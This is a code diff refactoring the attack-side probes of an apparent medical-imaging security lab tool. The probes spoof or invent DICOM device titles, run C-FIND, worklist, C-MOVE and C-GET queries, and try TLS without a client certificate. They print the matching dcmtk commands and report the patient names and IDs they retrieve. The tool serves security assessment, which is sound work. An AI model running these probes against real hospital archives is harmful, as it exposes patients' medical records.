@@ -16,6 +16,7 @@ from pynetdicom.sop_class import (  # type: ignore[attr-defined]
     UltrasoundImageStorage,
 )
 
+from pacslab.errors import LimitReachedError, RefusedError
 from pacslab.pacs import (
     ARCHIVE,
     AS_FORMER_DEVICE,
@@ -26,16 +27,16 @@ from pacslab.pacs import (
     WORKSTATION,
     require_lab_address,
 )
-from pacslab.probes.attack.tls_without_client_certificate import found_without_certificate
+from pacslab.probes.attack.tls_without_client_certificate import c_find_without_certificate
 from pacslab.probes.findings import Side
 from pacslab.probes.registry import ProbeResult, probe
-from pacslab.probes.target import AS_NOBODY_KNOWS, LEVELS, TIMEOUT, WRONG_TITLE, LimitReachedError, RefusedError
+from pacslab.probes.target import AS_NOBODY_KNOWS, LEVELS, TIMEOUT, WRONG_TITLE
 from pacslab.scenario import Severity
 
 if TYPE_CHECKING:
     from pacslab.probes.target import Target
 
-_STORED = (
+_STORAGE_CLASSES = (
     CTImageStorage,
     ComputedRadiographyImageStorage,
     UltrasoundImageStorage,
@@ -43,33 +44,33 @@ _STORED = (
     EncapsulatedPDFStorage,
 )
 _PENDING = {0xFF00, 0xFF01}
-_WANTED = {"StudyInstanceUID": "", "PatientName": "", "PatientID": "", "StudyDescription": ""}
+_STUDY_KEYS = {"StudyInstanceUID": "", "PatientName": "", "PatientID": "", "StudyDescription": ""}
 
 
-def _command(site: Target, program: str, title: str, *keys: str) -> str:
-    endpoint = site.archive.dicom
-    called = site.handover.dicom.called_ae_title
+def _dcmtk_command(target: Target, program: str, title: str, *keys: str) -> str:
+    endpoint = target.archive.dicom
+    called = target.handover.dicom.called_ae_title
     return " ".join([program, "-aet", title, "-aec", called, endpoint.host, str(endpoint.port), *keys])
 
 
-def _found(site: Target, caller: str, level: str, wanted: dict[str, str], modality: str) -> list[dict[str, str]]:
+def _c_find(target: Target, caller: str, level: str, wanted: dict[str, str], modality: str) -> list[dict[str, str]]:
     """Search with an empty question; where that runs into a limit, ask for one patient's records instead."""
-    device = site.actors[caller]
+    device = target.peers[caller]
     try:
         return device.find(level, wanted, modality)
     except LimitReachedError:
-        study = site.key.study(site.key.facts["clinic_study_uid"])
-        patient = next(one for one in site.key.patients if study in one.studies)
+        study = target.key.study(target.key.facts["clinic_study_uid"])
+        patient = next(patient for patient in target.key.patients if study in patient.studies)
         return device.find("Patient", {"PatientName": "", "PatientID": patient.patient_id}, modality)
 
 
-def _searched(site: Target, modality: str, title: str, caller: str) -> ProbeResult:
+def _c_find_at_each_level(target: Target, modality: str, title: str, caller: str) -> ProbeResult:
     """Search at each level in turn: a rule may forget one of them."""
     reasons: list[str] = []
     for level in ("Study", "Patient", "Series", "Instance"):
-        wanted = dict(_WANTED) if level != "Patient" else {"PatientName": "", "PatientID": ""}
+        wanted = dict(_STUDY_KEYS) if level != "Patient" else {"PatientName": "", "PatientID": ""}
         try:
-            answers = _found(site, caller, level, wanted, modality)
+            answers = _c_find(target, caller, level, wanted, modality)
         except RefusedError as reason:
             reasons.append(str(reason))
             if len(reasons) > 1:
@@ -82,29 +83,29 @@ def _searched(site: Target, modality: str, title: str, caller: str) -> ProbeResu
                 True,
                 f"A C-FIND from {title} at the level {LEVELS[level]} gave {len(answers)} answers; the first belongs "
                 f"to {name}, patient ID {first.get('PatientID', '')}.",
-                site.search_by_hand(caller, title, level, "PatientName", "PatientID"),
+                target.search_by_hand(caller, title, level, "PatientName", "PatientID"),
             )
         reasons.append("no answer at all")
     words = f"The archive answered no C-FIND from {title} ({'; '.join(dict.fromkeys(reasons))})."
-    return ProbeResult(False, words, site.search_by_hand(caller, title, "Study", "PatientName", "PatientID"))
+    return ProbeResult(False, words, target.search_by_hand(caller, title, "Study", "PatientName", "PatientID"))
 
 
 @probe("dicom-echo-stranger", Side.ATTACK, "Open an association as an unknown device", Severity.LOW)
-def echo_as_stranger(site: Target) -> ProbeResult:
+def echo_as_stranger(target: Target) -> ProbeResult:
     """Send a C-ECHO, DICOM's "are you there?", from an AE title that the hospital has never heard of."""
-    asked = _command(site, "echoscu -v", STRANGER)
+    asked = _dcmtk_command(target, "echoscu -v", STRANGER)
     try:
-        site.stranger.echo()
+        target.stranger.echo()
     except RefusedError as reason:
         return ProbeResult(False, f"The archive did not answer a C-ECHO from {STRANGER}: {reason}.", asked)
     return ProbeResult(True, f"The archive opened an association for {STRANGER} and answered its C-ECHO.", asked)
 
 
 @probe("dicom-called-title", Side.ATTACK, "Be answered without knowing the archive's title", Severity.LOW)
-def call_by_wrong_title(site: Target) -> ProbeResult:
+def call_by_wrong_title(target: Target) -> ProbeResult:
     """Call the archive by a title that is not its own, from a device that it knows."""
-    asked = f"echoscu -v -aet {WORKSTATION} -aec {WRONG_TITLE} {site.archive.dicom.host} {site.archive.dicom.port}"
-    device = site.actors[WORKSTATION]
+    asked = f"echoscu -v -aet {WORKSTATION} -aec {WRONG_TITLE} {target.archive.dicom.host} {target.archive.dicom.port}"
+    device = target.peers[WORKSTATION]
     try:
         device.echo(AS_NOBODY_KNOWS)
     except RefusedError as reason:
@@ -115,17 +116,17 @@ def call_by_wrong_title(site: Target) -> ProbeResult:
 
 
 @probe("dicom-scanner-searches", Side.ATTACK, "Search as a scanner that was taken over", Severity.MEDIUM)
-def search_as_scanner(site: Target) -> ProbeResult:
+def search_as_scanner(target: Target) -> ProbeResult:
     """Search from the CT scanner, which is listed because it has to store, and may do no more."""
-    return _searched(site, ARCHIVE, SCANNER, SCANNER)
+    return _c_find_at_each_level(target, ARCHIVE, SCANNER, SCANNER)
 
 
 @probe("dicom-worklist-stranger", Side.ATTACK, "Ask who comes today as an unknown device", Severity.HIGH)
-def worklist_as_stranger(site: Target) -> ProbeResult:
+def worklist_as_stranger(target: Target) -> ProbeResult:
     """Send a worklist C-FIND, by which scanners learn whom they examine next, from an unknown AE title."""
-    asked = _command(site, "findscu -W", STRANGER, "-k PatientName -k ScheduledProcedureStepSequence")
+    asked = _dcmtk_command(target, "findscu -W", STRANGER, "-k PatientName -k ScheduledProcedureStepSequence")
     try:
-        answers = site.stranger.worklist()
+        answers = target.stranger.worklist()
     except RefusedError as reason:
         return ProbeResult(False, f"The archive gave {STRANGER} no worklist: {reason}.", asked)
     if not answers:
@@ -135,55 +136,60 @@ def worklist_as_stranger(site: Target) -> ProbeResult:
 
 
 @probe("dicom-find-stranger", Side.ATTACK, "Search the archive as an unknown device", Severity.CRITICAL)
-def search_as_stranger(site: Target) -> ProbeResult:
+def search_as_stranger(target: Target) -> ProbeResult:
     """Send a C-FIND, DICOM's search, from an AE title that the hospital has never heard of."""
-    return _searched(site, ARCHIVE, STRANGER, STRANGER)
+    return _c_find_at_each_level(target, ARCHIVE, STRANGER, STRANGER)
 
 
 @probe("dicom-old-device", Side.ATTACK, "Search as a device that left years ago", Severity.HIGH)
-def search_as_leftover(site: Target) -> ProbeResult:
+def search_as_leftover(target: Target) -> ProbeResult:
     """Take the address and the title of a device that is still listed though it left, and search."""
-    return _searched(site, AS_FORMER_DEVICE, FORMER_DEVICE_TITLE, STRANGER)
+    return _c_find_at_each_level(target, AS_FORMER_DEVICE, FORMER_DEVICE_TITLE, STRANGER)
 
 
 @probe("dicom-borrowed-title", Side.ATTACK, "Search under the workstation's title", Severity.HIGH)
-def search_as_workstation(site: Target) -> ProbeResult:
+def search_as_workstation(target: Target) -> ProbeResult:
     """Call oneself WS01 and search: a title is a name, not a password.
 
     Over TLS the stranger first shows a certificate that nobody knows, then none at all: where a certificate is not
     required, Orthanc 1.10 refuses the one and takes the other.
     """
-    seen = _searched(site, AS_WORKSTATION, WORKSTATION, STRANGER)
-    if seen.reached or not site.configuration.get("DicomTlsEnabled"):
+    seen = _c_find_at_each_level(target, AS_WORKSTATION, WORKSTATION, STRANGER)
+    if seen.reached or not target.configuration.get("DicomTlsEnabled"):
         return seen
-    names = found_without_certificate(site, WORKSTATION)
+    names = c_find_without_certificate(target, WORKSTATION)
     if not names:
         return seen
     return ProbeResult(
         True,
         f"Over TLS, without any certificate, {STRANGER} called itself {WORKSTATION} and was told of "
         f"{names[0].replace('^', ' ')}.",
-        _command(site, "findscu +tla -ic -S", WORKSTATION, "-k QueryRetrieveLevel=STUDY -k PatientName -k PatientID"),
+        _dcmtk_command(
+            target, "findscu +tla -ic -S", WORKSTATION, "-k QueryRetrieveLevel=STUDY -k PatientName -k PatientID"
+        ),
     )
 
 
 @probe("dicom-move-stranger", Side.ATTACK, "Have images sent elsewhere as an unknown device", Severity.CRITICAL)
-def move_as_stranger(site: Target) -> ProbeResult:
+def move_as_stranger(target: Target) -> ProbeResult:
     """Send a C-MOVE, which asks the archive to send a study to another device, from an unknown AE title."""
-    study = site.key.facts["deid_study_uid"]
+    study = target.key.facts["deid_study_uid"]
     reasons = []
     begun = time.monotonic()
-    for target in (FORMER_DEVICE_TITLE, STRANGER, WORKSTATION):
+    for destination in (FORMER_DEVICE_TITLE, STRANGER, WORKSTATION):
         if time.monotonic() - begun > TIMEOUT:
             break  # an archive that lets one request wait so long does not serve the next
-        receiver = site.actors[WORKSTATION if target == WORKSTATION else STRANGER]
-        asked = _command(
-            site, f"movescu -S -aem {target}", STRANGER, f"-k QueryRetrieveLevel=STUDY -k StudyInstanceUID={study}"
+        receiver = target.peers[WORKSTATION if destination == WORKSTATION else STRANGER]
+        asked = _dcmtk_command(
+            target,
+            f"movescu -S -aem {destination}",
+            STRANGER,
+            f"-k QueryRetrieveLevel=STUDY -k StudyInstanceUID={study}",
         )
         receiver.forget(study)
         try:
-            site.stranger.move(study, target)
-            count = receiver.wait_for(study, patience=1.0)
+            target.stranger.move(study, destination)
+            count = receiver.wait_for(study, timeout_s=1.0)
         except RefusedError as reason:
             reasons.append(str(reason))
             continue
@@ -193,20 +199,20 @@ def move_as_stranger(site: Target) -> ProbeResult:
             return ProbeResult(
                 True,
                 f"At {STRANGER}'s request the archive sent {count} images and documents of one study to "
-                f"{receiver.name} (destination {target}).",
+                f"{receiver.name} (destination {destination}).",
                 asked,
             )
-        reasons.append(f"nothing arrived at {target}")
+        reasons.append(f"nothing arrived at {destination}")
     return ProbeResult(
         False, f"No C-MOVE from {STRANGER} delivered anything ({'; '.join(dict.fromkeys(reasons))}).", asked
     )
 
 
 @probe("dicom-get-stranger", Side.ATTACK, "Fetch images as an unknown device", Severity.CRITICAL)
-def get_as_stranger(site: Target) -> ProbeResult:
+def get_as_stranger(target: Target) -> ProbeResult:
     """Send a C-GET, which returns the images over the caller's own connection, from an unknown AE title."""
-    study = site.key.facts["deid_study_uid"]
-    endpoint = site.archive.dicom
+    study = target.key.facts["deid_study_uid"]
+    endpoint = target.archive.dicom
     require_lab_address(endpoint.host)
     received: list[int] = []
 
@@ -217,19 +223,19 @@ def get_as_stranger(site: Target) -> ProbeResult:
     caller = AE(ae_title=STRANGER)
     caller.acse_timeout = caller.dimse_timeout = caller.network_timeout = caller.connection_timeout = TIMEOUT
     caller.add_requested_context(StudyRootQueryRetrieveInformationModelGet)
-    for kind in _STORED:
+    for kind in _STORAGE_CLASSES:
         caller.add_requested_context(kind)
     asked = (
-        f"getscu -aet {STRANGER} -aec {site.handover.dicom.called_ae_title} {endpoint.host} {endpoint.port} "
+        f"getscu -aet {STRANGER} -aec {target.handover.dicom.called_ae_title} {endpoint.host} {endpoint.port} "
         f"-k QueryRetrieveLevel=STUDY -k StudyInstanceUID={study}"
     )
     association = caller.associate(
         endpoint.host,
         endpoint.port,
-        ae_title=site.handover.dicom.called_ae_title,
-        ext_neg=[build_role(kind, scp_role=True) for kind in _STORED],
+        ae_title=target.handover.dicom.called_ae_title,
+        ext_neg=[build_role(kind, scp_role=True) for kind in _STORAGE_CLASSES],
         evt_handlers=[(evt.EVT_C_STORE, keep)],
-        bind_address=(site.outsider or "", 0),
+        bind_address=(target.outsider or "", 0),
     )
     if not association.is_established:
         return ProbeResult(False, f"The archive refused an association from {STRANGER}.", asked)
